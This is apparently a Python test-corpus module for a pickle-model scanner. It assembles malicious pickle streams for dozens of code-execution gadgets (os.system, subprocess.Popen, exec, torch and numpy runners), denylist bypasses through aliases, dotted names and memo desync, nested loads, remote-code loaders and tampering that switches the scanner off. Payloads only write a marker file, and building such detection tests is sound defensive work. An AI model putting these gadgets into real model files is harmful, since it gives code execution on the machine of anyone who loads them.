"""Malicious raw-pickle corpus cases: one per gadget or parser trick in THREATS.md section 2.

Every case builds a pickle stream whose payload, if a loader ever executed
it, would only create the marker file (``Payload.marker``); network gadgets
aim at the discard port of localhost. The streams are assembled opcode by
opcode (:mod:`tests.corpus.asm`) or with ``pickle.dumps`` of an object whose
``__reduce__`` names the gadget: dumping never runs the gadget, and nothing
here ever loads. Container and format cases live in
:mod:`tests.corpus.malicious_containers`. Not handled here: writing files or
scanning them.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from typing import Any

from tests.corpus.asm import (
    BUILD,
    EMPTY_DICT,
    MEMOIZE,
    POP,
    STACK_GLOBAL,
    Raw,
    binget,
    binput,
    call,
    const,
    getattr_,
    global_,
    program,
    sequence,
    stack_global,
)
from tests.corpus.spec import CaseList, Payload

PICKLES = CaseList("blocked")
case = PICKLES.case


class Reduce:
    """An object that pickles as ``fn(*args)`` (pickle.dumps only; never loaded)."""

    def __init__(self, fn: Callable[..., Any], *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.fn, self.args


def _gadget(module: str, name: str, *args: object, protocol: int = 2) -> bytes:
    return program(call(global_(module, name), *args), protocol)


# -- Item 1: stdlib / ML gadgets missing from denylists ------------------------------------


@case("gadgets/os_system_proto0.pkl", "THREATS 2.1; picklescan baseline (posix.system)")
def os_system_proto0(p: Payload) -> bytes:
    """``os.system`` as plain ``pickle.dumps`` protocol 0 writes it (``posix system``); THREATS 2.1."""
    return pickle.dumps(Reduce(os.system, p.shell), protocol=0)


@case("gadgets/os_system_proto4.pkl", "THREATS 2.1; picklescan baseline")
def os_system_proto4(p: Payload) -> bytes:
    """``os.system`` through STACK_GLOBAL with FRAME (protocol 4 as pickle.dumps writes it); THREATS 2.1."""
    return pickle.dumps(Reduce(os.system, p.shell), protocol=4)


@case("gadgets/os_popen.pkl", "THREATS 2.1")
def os_popen(p: Payload) -> bytes:
    """``os.popen`` (module ``os``, not its ``posix`` alias); THREATS 2.1."""
    return _gadget("os", "popen", p.shell)


@case("gadgets/subprocess_popen.pkl", "THREATS 2.1; MalHug arXiv 2409.09368")
def subprocess_popen(p: Payload) -> bytes:
    """``subprocess.Popen(argv)``, the usual reverse-shell entry (MalHug, arXiv 2409.09368)."""
    return _gadget("subprocess", "Popen", p.argv)


@case("gadgets/builtins_exec.pkl", "THREATS 2.1; picklescan baseline")
def builtins_exec(p: Payload) -> bytes:
    """``builtins.exec(code)``; THREATS 2.1."""
    return _gadget("builtins", "exec", p.code)


@case("gadgets/builtins_eval.pkl", "THREATS 2.1")
def builtins_eval(p: Payload) -> bytes:
    """``builtins.eval(expr)``; THREATS 2.1."""
    return _gadget("builtins", "eval", p.code)


@case("gadgets/runpy_run_code.pkl", "THREATS 2.1; picklescan GHSA-vvpj-8cmc-gx39")
def runpy_run_code(p: Payload) -> bytes:
    """``runpy._run_code(code, globals)``, a private runner (picklescan GHSA-vvpj-8cmc-gx39 family)."""
    return _gadget("runpy", "_run_code", p.code, {})


@case("gadgets/timeit_timeit.pkl", "THREATS 2.1; picklescan GHSA-xp4f-hrf8-rxw7")
def timeit_timeit(p: Payload) -> bytes:
    """``timeit.timeit('pass', setup=code, number=1)`` compiles and runs its setup (GHSA-xp4f-hrf8-rxw7)."""
    return _gadget("timeit", "timeit", "pass", p.code, None, 1)


@case("gadgets/cprofile_run.pkl", "THREATS 2.1; picklescan PR #53")
def cprofile_run(p: Payload) -> bytes:
    """``cProfile.run(statement)`` executes the statement (picklescan PR #53)."""
    return _gadget("cProfile", "run", p.code)


@case("gadgets/profile_run.pkl", "THREATS 2.1; picklescan PR #53")
def profile_run(p: Payload) -> bytes:
    """``profile.run(statement)``, the pure-Python twin of cProfile (picklescan PR #53)."""
    return _gadget("profile", "run", p.code)


@case("gadgets/ensurepip_run_pip.pkl", "THREATS 2.1; picklescan PR #50")
def ensurepip_run_pip(p: Payload) -> bytes:
    """``ensurepip._run_pip`` runs pip in a subprocess; ``--log`` makes it write the marker (PR #50)."""
    return _gadget("ensurepip", "_run_pip", ["--log", str(p.marker), "--version"])


@case("gadgets/uuid_get_command_stdout.pkl", "THREATS 2.1; picklescan PR #54")
def uuid_get_command_stdout(p: Payload) -> bytes:
    """``uuid._get_command_stdout(cmd, *args)`` runs a program (picklescan PR #54)."""
    return _gadget("uuid", "_get_command_stdout", *p.argv)


@case("gadgets/imaplib_imap4_stream.pkl", "THREATS 2.1; picklescan PR #65")
def imaplib_imap4_stream(p: Payload) -> bytes:
    """``imaplib.IMAP4_stream(command)`` spawns a shell command (picklescan PR #65)."""
    return _gadget("imaplib", "IMAP4_stream", p.shell)


@case("gadgets/osx_support_read_output.pkl", "THREATS 2.1")
def osx_support_read_output(p: Payload) -> bytes:
    """``_osx_support._read_output(cmd)`` passes its argument to ``os.system``; THREATS 2.1."""
    return _gadget("_osx_support", "_read_output", p.shell)


@case("gadgets/doctest_debug_script.pkl", "THREATS 2.1")
def doctest_debug_script(p: Payload) -> bytes:
    """``doctest.debug_script(src)`` executes source under pdb; THREATS 2.1."""
    return _gadget("doctest", "debug_script", p.code)


@case("gadgets/trace_runctx.pkl", "THREATS 2.1")
def trace_runctx(p: Payload) -> bytes:
    """``trace.Trace.runctx`` reached by a proto-4 dotted name, called on a fresh ``Trace``; THREATS 2.1."""
    tracer = call(global_("trace", "Trace"))
    return program(call(stack_global("trace", "Trace.runctx"), tracer, p.code, {}, {}), 4)


@case("gadgets/code_interactive_runsource.pkl", "THREATS 2.1 (idlelib/code family)")
def code_interactive_runsource(p: Payload) -> bytes:
    """``code.InteractiveInterpreter.runsource``, the machinery idlelib's shell uses; THREATS 2.1."""
    interp = call(stack_global("code", "InteractiveInterpreter"))
    return program(call(stack_global("code", "InteractiveInterpreter.runsource"), interp, p.code), 4)


@case("gadgets/numpy_testing_runstring.pkl", "THREATS 2.1")
def numpy_testing_runstring(p: Payload) -> bytes:
    """``numpy.testing._private.utils.runstring(code, dict)`` wraps ``exec``; THREATS 2.1."""
    return _gadget("numpy.testing._private.utils", "runstring", p.code, {})


@case("gadgets/torch_collect_env_run.pkl", "THREATS 2.1")
def torch_collect_env_run(p: Payload) -> bytes:
    """``torch.utils.collect_env.run(cmd)`` runs a shell command from inside torch; THREATS 2.1."""
    return _gadget("torch.utils.collect_env", "run", p.shell)


@case("gadgets/torch_inductor_compile_file.pkl", "THREATS 2.1")
def torch_inductor_compile_file(p: Payload) -> bytes:
    """``torch._inductor.codecache.compile_file(inputs, output, cmd)`` runs ``cmd``; THREATS 2.1."""
    return _gadget("torch._inductor.codecache", "compile_file", [], str(p.marker), p.argv)


@case("gadgets/shutil_copyfile.pkl", "THREATS 2.15 (stdlib import not in UNSAFE_IMPORTS)")
def shutil_copyfile(p: Payload) -> bytes:
    """``shutil.copyfile('/dev/null', marker)``: a stdlib write fickling's list missed (THREATS 2.15)."""
    return _gadget("shutil", "copyfile", "/dev/null", str(p.marker))


@case("gadgets/pathlib_touch_dotted.pkl", "THREATS 2.15; modelscan #338")
def pathlib_touch_dotted(p: Payload) -> bytes:
    """``pathlib.Path.touch`` through a dotted proto-4 name (modelscan #338)."""
    path = call(global_("pathlib", "Path"), str(p.marker))
    return program(call(stack_global("pathlib", "Path.touch"), path), 4)


@case("gadgets/interpreters_run_string.pkl", "GHSA-6ggj-6f2q-f7mx (fickling PR #302)")
def interpreters_run_string(p: Payload) -> bytes:
    """``_interpreters.run_string``, the private module fickling missed (GHSA-6ggj-6f2q-f7mx)."""
    interp = call(global_("_interpreters", "create"))
    return program(call(global_("_interpreters", "run_string"), interp, p.code))


@case("gadgets/xxsubinterpreters_run_string.pkl", "GHSA-6ggj-6f2q-f7mx (fickling PR #302)")
def xxsubinterpreters_run_string(p: Payload) -> bytes:
    """``_xxsubinterpreters.run_string``, the pre-3.13 name of the same gadget (GHSA-6ggj-6f2q-f7mx)."""
    interp = call(global_("_xxsubinterpreters", "create"))
    return program(call(global_("_xxsubinterpreters", "run_string"), interp, p.code))


# -- Item 2: string -> callable resolvers ------------------------------------------------


@case("resolvers/pkgutil_resolve_name.pkl", "picklescan issue #66; modelscan #331")
def pkgutil_resolve_name(p: Payload) -> bytes:
    """``pkgutil.resolve_name('os:system')(cmd)`` (picklescan #66, modelscan #331)."""
    system = call(global_("pkgutil", "resolve_name"), "os:system")
    return program(call(system, p.shell))


@case("resolvers/pydoc_locate.pkl", "THREATS 2.1-2; picklescan issue #66")
def pydoc_locate(p: Payload) -> bytes:
    """``pydoc.locate('os.system')(cmd)`` (picklescan #66)."""
    return program(call(call(global_("pydoc", "locate"), "os.system"), p.shell))


@case("resolvers/import_module_getattr.pkl", "modelscan issue #331")
def import_module_getattr(p: Payload) -> bytes:
    """``getattr(importlib.import_module('os'), 'system')(cmd)`` (modelscan #331)."""
    module = call(global_("importlib", "import_module"), "os")
    return program(call(getattr_(module, "system"), p.shell))


@case("resolvers/operator_attrgetter.pkl", "picklescan issue #66; modelscan #331")
def operator_attrgetter(p: Payload) -> bytes:
    """``operator.attrgetter('system')(import_module('os'))(cmd)``: no getattr global at all (#66)."""
    module = call(global_("importlib", "import_module"), "os")
    getter = call(global_("operator", "attrgetter"), "system")
    return program(call(call(getter, module), p.shell))


@case("resolvers/operator_methodcaller.pkl", "modelscan issue #331")
def operator_methodcaller(p: Payload) -> bytes:
    """``operator.methodcaller('system', cmd)(import_module('os'))`` (modelscan #331)."""
    module = call(global_("importlib", "import_module"), "os")
    return program(call(call(global_("operator", "methodcaller"), "system", p.shell), module))


@case("resolvers/builtins_import_getattr.pkl", "MalHug arXiv 2409.09368")
def builtins_import_getattr(p: Payload) -> bytes:
    """``getattr(__import__('os'), 'system')(cmd)``, the most common chain found on the Hub (MalHug)."""
    return program(call(getattr_(call(global_("builtins", "__import__"), "os"), "system"), p.shell))


# -- Item 3: module aliases and dotted names -----------------------------------------------


@case("aliases/nt_system.pkl", "THREATS 2.3 (posix/nt aliases)")
def nt_system(p: Payload) -> bytes:
    """``nt.system``, the Windows name of ``os.system`` (protocol 1, no PROTO opcode); THREATS 2.3."""
    return _gadget("nt", "system", p.shell, protocol=1)


@case("aliases/operator_underscore_attrgetter.pkl", "THREATS 2.3 (_operator alias)")
def operator_underscore_attrgetter(p: Payload) -> bytes:
    """``_operator.attrgetter``, the C module behind ``operator``; THREATS 2.3."""
    module = call(global_("importlib", "import_module"), "posix")
    return program(call(call(call(global_("_operator", "attrgetter"), "system"), module), p.shell))


@case("aliases/io_fileio.pkl", "THREATS 2.3 (_io.FileIO)")
def io_fileio(p: Payload) -> bytes:
    """``_io.FileIO(marker, 'w')`` creates a file just by being constructed; THREATS 2.3."""
    return _gadget("_io", "FileIO", str(p.marker), "w")


@case("aliases/compat_builtin_eval.pkl", "THREATS 2.3/5.1 (_compat_pickle __builtin__)")
def compat_builtin_eval(p: Payload) -> bytes:
    """``__builtin__.eval``: Python 2 name remapped by ``_compat_pickle`` at load time (protocol 2)."""
    return _gadget("__builtin__", "eval", p.code)


@case("aliases/compat_commands_getoutput.pkl", "THREATS 5.1 (_compat_pickle commands)")
def compat_commands_getoutput(p: Payload) -> bytes:
    """``commands.getoutput``: Python 2 name that ``_compat_pickle`` maps to ``subprocess``."""
    return _gadget("commands", "getoutput", p.shell)


@case("aliases/dotted_print_self_exec.pkl", "modelscan issue #338 (introspection chain)")
def dotted_print_self_exec(p: Payload) -> bytes:
    """``builtins`` + ``print.__self__.exec``: a dotted walk from a harmless name to ``exec`` (#338)."""
    return program(call(stack_global("builtins", "print.__self__.exec"), p.code), 4)


@case("aliases/dotted_torch_serialization_os.pkl", "CVE-2025-10157 (attribute walk off an allowed module)")
def dotted_torch_serialization_os(p: Payload) -> bytes:
    """``torch`` + ``serialization.os.system``: walks from an allowed package to ``os`` (CVE-2025-10157)."""
    return program(call(stack_global("torch", "serialization.os.system"), p.shell), 4)


@case("aliases/asyncio_submodule_subprocess.pkl", "CVE-2025-10157 (asyncio submodule)")
def asyncio_submodule_subprocess(p: Payload) -> bytes:
    """``asyncio.unix_events`` + ``subprocess.Popen``: submodule prefix bypass (CVE-2025-10157)."""
    return program(call(stack_global("asyncio.unix_events", "subprocess.Popen"), p.argv), 4)


@case("aliases/numpy_dotted_runstring.pkl", "CVE-2025-10157; THREATS 2.1")
def numpy_dotted_runstring(p: Payload) -> bytes:
    """``numpy`` + ``testing._private.utils.runstring``: an exec gadget named off the numpy root."""
    return program(call(stack_global("numpy", "testing._private.utils.runstring"), p.code, {}), 4)


# -- Item 4: memo desync -------------------------------------------------------------------


@case("memo/memo_fed_stack_global.pkl", "picklescan #22; modelscan #85; GHSA-9gvj-pp9x-gcfr")
def memo_fed_stack_global(p: Payload) -> bytes:
    """STACK_GLOBAL fed by BINGET while the last pushed strings name ``collections.OrderedDict``."""
    body = const("posix") + MEMOIZE + POP + const("system") + MEMOIZE + POP
    body += const("collections") + const("OrderedDict") + POP + POP
    body += binget(0) + binget(1) + STACK_GLOBAL
    return program(call(Raw(body), p.shell), 4)


@case("memo/memo_slot_overwrite.pkl", "GHSA-9gvj-pp9x-gcfr (parsing logic flaw)")
def memo_slot_overwrite(p: Payload) -> bytes:
    """Memo slot 0 first holds ``collections``, then is overwritten with ``posix`` before BINGET."""
    body = const("collections") + binput(0) + POP + const("posix") + binput(0) + POP
    body += binget(0) + const("system") + STACK_GLOBAL
    return program(call(Raw(body), p.shell), 4)


@case("memo/memoize_after_binput.pkl", "picklescan #22 (MEMOIZE index = len(memo))")
def memoize_after_binput(p: Payload) -> bytes:
    """BINPUT 5 then MEMOIZE: the memoized ``posix`` lands in slot 1, not 6, and BINGET 1 reads it."""
    body = const("collections") + binput(5) + POP + const("posix") + MEMOIZE + POP
    body += const("builtins") + binput(6) + POP + binget(1) + const("system") + STACK_GLOBAL
    return program(call(Raw(body), p.shell), 4)


# -- Items 5, 10, 15: BUILD smuggling, exception-oriented programming, routed results ---------


@case("build/build_setattr_on_class.pkl", "modelscan #85/#330 (BUILD setattr smuggling)")
def build_setattr_on_class(p: Payload) -> bytes:
    """BUILD sets ``OrderedDict.fromkeys = exec`` on the class, then a dotted name calls it (#85)."""
    target = global_("collections", "OrderedDict")
    poisoned = Raw(target + const((None, {"fromkeys": global_("builtins", "exec")})) + BUILD)
    return program(sequence(poisoned, call(stack_global("collections", "OrderedDict.fromkeys"), p.code)), 4)


@case("build/result_routed_through_build.pkl", "THREATS 2.15 (UnusedVariables dodged via BUILD)")
def result_routed_through_build(p: Payload) -> bytes:
    """The ``posix.system`` result is consumed as BUILD state of a plain dict, so nothing is unused."""
    return program(Raw(EMPTY_DICT + call(global_("posix", "system"), p.shell) + BUILD))


@case("build/exception_oriented.pkl", "Hide-and-Seek arXiv 2508.19774 (EOP)")
def exception_oriented(p: Payload) -> bytes:
    """Payload, then a call that raises so a loader's ``except`` hides the failure (EOP, 2508.19774)."""
    raise_it = call(global_("builtins", "int"), "not a number")
    return program(sequence(call(global_("posix", "system"), p.shell), raise_it))


# -- Item 6: nested deserialization -------------------------------------------------------------


@case("nested/pickle_loads_inner.pkl", "GHSA-84r2-jw7c-4r5q; fickling #190")
def pickle_loads_inner(p: Payload) -> bytes:
    """``pickle.loads(b'...')`` whose argument is itself a ``posix.system`` pickle (fickling #190)."""
    return _gadget("pickle", "loads", _gadget("posix", "system", p.shell))


@case("nested/underscore_pickle_loads.pkl", "GHSA-84r2-jw7c-4r5q")
def underscore_pickle_loads(p: Payload) -> bytes:
    """``_pickle.loads``, the C alias of ``pickle.loads``, with a nested payload."""
    return _gadget("_pickle", "loads", _gadget("builtins", "exec", p.code, protocol=4))


@case("nested/torch_load_call.pkl", "modelscan #267 (torch.load inside a pickle)")
def torch_load_call(p: Payload) -> bytes:
    """``torch.load(path, weights_only=False)`` called from inside a pickle (modelscan #267)."""
    return _gadget("torch", "load", str(p.marker) + ".pt", None, None, False)


@case("nested/numpy_load_call.pkl", "modelscan #267; fickling #210")
def numpy_load_call(p: Payload) -> bytes:
    """``numpy.load(path, None, True)`` (allow_pickle) from inside a pickle (fickling #210)."""
    return _gadget("numpy", "load", str(p.marker) + ".npy", None, True)


@case("nested/joblib_load_call.pkl", "modelscan #267")
def joblib_load_call(p: Payload) -> bytes:
    """``joblib.load(path)`` from inside a pickle (modelscan #267)."""
    return _gadget("joblib", "load", str(p.marker) + ".joblib")


@case("nested/torch_load_from_bytes.pkl", "GHSA-84r2-jw7c-4r5q (torch.storage._load_from_bytes)")
def torch_load_from_bytes(p: Payload) -> bytes:
    """``torch.storage._load_from_bytes(b)`` where ``b`` is a pickle running ``posix.system``."""
    return _gadget("torch.storage", "_load_from_bytes", _gadget("posix", "system", p.shell))


# -- Item 9: payload first, broken stream afterwards ---------------------------------------------


@case("broken/payload_then_invalid_opcode.pkl", "nullifAI (ReversingLabs, Feb 2025)")
def payload_then_invalid_opcode(p: Payload) -> bytes:
    """Payload executes, then an invalid opcode ends the stream with no STOP (nullifAI)."""
    return b"\x80\x02" + call(global_("posix", "system"), p.shell) + POP + b"\xff\xfe\xfd"


@case("broken/payload_then_truncated_string.pkl", "nullifAI (ReversingLabs, Feb 2025)")
def payload_then_truncated_string(p: Payload) -> bytes:
    """Payload executes, then a BINUNICODE declares more bytes than the file holds (nullifAI)."""
    return b"\x80\x02" + call(global_("posix", "system"), p.shell) + POP + b"X\xe8\x03\x00\x00abc"


# -- Items 13, 14: indirect network loading and scanner tampering ------------------------------


@case("network/torch_hub_load.pkl", "modelscan #338 section 11 (torch.hub)")
def torch_hub_load(p: Payload) -> bytes:
    """``torch.hub.load('example/none', 'model')``: fetches and runs remote code (modelscan #338)."""
    return _gadget("torch.hub", "load", "example/none", "model")


@case("network/urllib_urlopen.pkl", "modelscan #338 section 1 (urllib)")
def urllib_urlopen(p: Payload) -> bytes:
    """``urllib.request.urlopen`` of the localhost discard port (modelscan #338)."""
    return _gadget("urllib.request", "urlopen", "http://127.0.0.1:9/" + p.marker.name)


@case("network/transformers_from_pretrained.pkl", "modelscan #338 (from_pretrained)")
def transformers_from_pretrained(p: Payload) -> bytes:
    """``transformers.AutoModel.from_pretrained`` via a dotted name (remote code, modelscan #338)."""
    return program(call(stack_global("transformers", "AutoModel.from_pretrained"), "example/none"), 4)


@case("network/pandas_read_csv.pkl", "modelscan #338 (pandas.read_csv(url))")
def pandas_read_csv(p: Payload) -> bytes:
    """``pandas.read_csv(url)`` of the localhost discard port (modelscan #338)."""
    return _gadget("pandas", "read_csv", "http://127.0.0.1:9/x.csv")


@case("tamper/setattr_weightguard.pkl", "fickling PR #249 (scanner tampering)")
def setattr_weightguard(p: Payload) -> bytes:
    """``setattr(import_module('weightguard.api'), 'scan', None)``: disarms the scanner itself."""
    module = call(global_("importlib", "import_module"), "weightguard.api")
    return program(call(global_("builtins", "setattr"), module, "scan", None))


@case("tamper/weightguard_global.pkl", "THREATS 2.14 (pickle importing the scanner)")
def weightguard_global(p: Payload) -> bytes:
    """A pickle that names a weightguard function directly (THREATS 2.14)."""
    return _gadget("weightguard.policy.load", "load_policy", str(p.marker))


@case("tamper/fickling_global.pkl", "THREATS 2.14 (pickle importing fickling)")
def fickling_global(p: Payload) -> bytes:
    """A pickle that reaches into fickling's analysis module (THREATS 2.14)."""
    module = call(global_("importlib", "import_module"), "fickling.analysis")
    return program(call(global_("builtins", "setattr"), module, "check_safety", None))
